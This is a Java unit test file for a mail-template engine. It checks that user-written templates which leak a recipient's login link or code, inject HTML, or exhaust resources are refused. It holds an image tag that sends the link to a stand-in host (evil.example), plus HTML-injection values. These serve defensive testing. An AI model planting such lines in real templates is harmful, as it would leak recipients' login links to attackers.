package dev.atrium.mail.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Templates that try to reach, to repeat, to grow, or to break out of their place. */
class HostileTemplateTest {
    private static final Map<String, String> VALUES =
            Map.of("name", "x onload=y", "words", "\"'><img src=x>", "link", ReadMail.LINK, "code", "654321");

    @ParameterizedTest
    @HostileTemplates("reaching.txt")
    void reaches_nothing_and_defines_nothing(String template) {
        refused(Templates.text(template));
        refused(Templates.subject(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    @ParameterizedTest
    @HostileTemplates("repeating.txt")
    void repeats_nothing_and_grows_nothing(String template) {
        refused(Templates.text(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    @ParameterizedTest
    @HostileTemplates("breaking-out.txt")
    void breaks_out_of_no_place_in_html(String template) {
        refused(Templates.html(template));
    }

    @ParameterizedTest
    @HostileTemplates("telling-the-link.txt")
    void tells_the_link_to_nobody_but_the_reader(String template) {
        refused(Templates.html(template));
    }

    @ParameterizedTest
    @HostileTemplates("telling-the-link-in-text.txt")
    void tells_the_link_to_nobody_in_plain_text_either(String template) {
        refused(Templates.text(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    /** A browser, too, reads them otherwise than they look. */
    @ParameterizedTest
    @HostileTemplates("tidied.txt")
    void writes_anew_what_is_odd_but_harmless(String template) throws TemplateSyntaxException {
        assertThat(Templates.problems(Templates.html(template))).isEmpty();
        ReadMail.requireHarmless(written(Templates.html(template)));
    }

    @Test
    void says_where_the_link_may_stand() {
        assertThat(Templates.problems(Templates.html("<p>\n<img src=\"https://evil.example/?l=${link}\"></p>")))
                .containsExactly(
                        "Anyone who has ${link} or ${code} can act as the recipient: each is allowed only as text,"
                                + " unchanged and with spaces around it, and ${link} also as the whole address of a"
                                + " link, <a href=\"${link}\">.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${link}", "Code ${code}", "${code?upper_case}"})
    void a_subject_has_neither_link_nor_code(String subject) {
        assertThat(Templates.problems(Templates.subject(subject)))
                .containsExactly(
                        "Anyone who has ${link} or ${code} can act as the recipient: neither is allowed in a subject.");
    }

    /** Character by character, which would tell it, were it there to be compared. */
    @Test
    void the_link_cannot_be_guessed_by_comparing() {
        assertThat(Templates.written(
                        "<#if link?starts_with('https:')>h</#if><#if link?ends_with('&c=d')>d</#if>" + "<#if link == '"
                                + ReadMail.LINK + "'>all</#if>",
                        VALUES))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Open \u201E${link}\u201C, or \u00AB\u00A0${link}\u00A0\u00BB!",
                "<p>Open:</p><p>${link}</p><p>${code}</p>",
                "Code: <b>${code}</b>.<br>${link}<br>",
                "<a href=\"${link}\">${link}</a>",
                "&lt;${link}&gt;",
                "Open ${link}.",
                "<p>${link}</p>",
                "<a href=\"${link}\">Open</a>",
                "<a href='${ link }'>Open</a>",
                "<a href=\"<#if words?has_content>${link}<#else>https://example.org/</#if>\">Open</a>",
                "<a href=\"${link?has_content?then(link, link)}\">Open</a>",
            })
    void the_link_may_stand_where_the_reader_sees_it_or_clicks(String template) {
        assertThat(Templates.problems(Templates.html(template))).isEmpty();
    }

    @Nested
    class Given_limits {
        @Test
        void expressions_are_not_endless() {
            refused(Templates.text("${" + "name+".repeat(50) + "name}"));
            refused(Templates.text("${name" + "?trim".repeat(50) + "}"));
            refused(Templates.text("${" + "(".repeat(21) + "name" + ")".repeat(21) + "}"));
            refused(Templates.text("<#if true>".repeat(21) + "x" + "</#if>".repeat(21)));
            refused(Templates.text("${" + "(".repeat(30_000)));
            refused(Templates.text("<#if " + "!".repeat(60_000)));
        }

        @ParameterizedTest
        @ValueSource(strings = {"<p>", "<b>", "<p><b><i>", "<table>", "<", "<a b=1 ", "&", "<p style='a:((('>", "<!--"})
        @Timeout(60) // it ends; how soon is for CustomTemplateBenchmark to say
        void html_that_costs_much_is_stopped_or_written(String dear) {
            CustomTemplate template = Templates.html(dear.repeat(60_000 / dear.length()));
            try {
                ReadMail.requireHarmless(written(template));
            } catch (TemplateSyntaxException stopped) {
                assertThat(stopped).hasMessageMatching("HTML: the (mail has more|template needed more) than .*");
            }
        }

        @Test
        void a_mail_is_not_endless() {
            CustomTemplate template = Templates.text("${words}".repeat(100));
            assertThat(template.problems()).isEmpty();
            assertThatThrownBy(() -> template.write(Locale.ENGLISH, Map.of("words", "x".repeat(1_000))))
                    .isInstanceOf(TemplateSyntaxException.class)
                    .hasMessageContaining("the mail has more than 64000 bytes");
        }

        /** The most costly things that may be said, as often as they fit. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<#if words+words+words+words+words+words+words+words+words+words+words == words>x</#if>",
                    "<#if words?upper_case?lower_case?capitalize?upper_case?lower_case?capitalize == ''>x</#if>",
                    "<#if words?url?url?url?url?url?url?url?url?url?url?has_content>x</#if>",
                })
        @Timeout(60)
        void a_template_that_costs_too_much_is_stopped(String dear) {
            CustomTemplate template = Templates.text(dear.repeat(64_000 / dear.length()));
            assertThat(template.problems()).isEmpty();
            Map<String, String> values = Map.of("words", "äb ".repeat(20_000));
            assertThatThrownBy(() -> template.write(Locale.ENGLISH, values))
                    .isInstanceOf(TemplateSyntaxException.class)
                    .hasMessageContaining("the template needed more than 100 ms");
        }
    }

    /** It is not saved; one that was saved earlier writes nothing, or what is harmless. */
    private static void refused(CustomTemplate template) {
        assertThat(template.problems())
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.message()).isNotBlank());
        try {
            ReadMail.requireHarmless(written(template));
        } catch (TemplateSyntaxException unusable) {
            assertThat(unusable.problem().message()).isNotBlank();
        }
    }

    private static String written(CustomTemplate template) throws TemplateSyntaxException {
        return template.write(Locale.ENGLISH, VALUES).mail().html().orElse("");
    }
}
